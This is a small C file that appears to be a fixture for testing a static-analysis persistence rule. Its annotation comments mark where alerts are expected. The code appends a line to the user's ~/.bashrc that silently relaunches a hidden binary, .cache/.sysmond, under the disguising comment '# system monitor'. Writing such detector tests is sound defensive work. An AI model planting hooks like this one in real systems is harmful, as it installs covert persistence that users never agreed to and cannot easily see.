/*
 * behavior.persistence: the agent re-launches itself from the user's shell
 * start-up file. The path is built from getenv("HOME") with snprintf and the
 * line is appended with fopen(..., "a"), guarded so it is added only once.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define HOOK_LINE "(nohup $HOME/.cache/.sysmond >/dev/null 2>&1 &)\n"

static int already_installed(const char *rc)
{
    char line[512];
    int found = 0;
    FILE *f = fopen(rc, "r");
    if (!f)
        return 0;
    while (!found && fgets(line, sizeof(line), f))
        found = strstr(line, ".sysmond") != NULL;
    fclose(f);
    return found;
}

int main(void)
{
    char rc[4096];
    const char *home = getenv("HOME");

    if (!home)
        return 1;
    snprintf(rc, sizeof(rc), "%s/.bashrc", home);
    if (already_installed(rc))
        return 0;
    FILE *f = fopen(rc, "a"); // $ Alert[behavior.persistence] Alert[taint.path-injection]
    if (!f)
        return 1;
    fputs("\n# system monitor\n", f);
    fputs(HOOK_LINE, f);
    fclose(f);
    return 0;
}
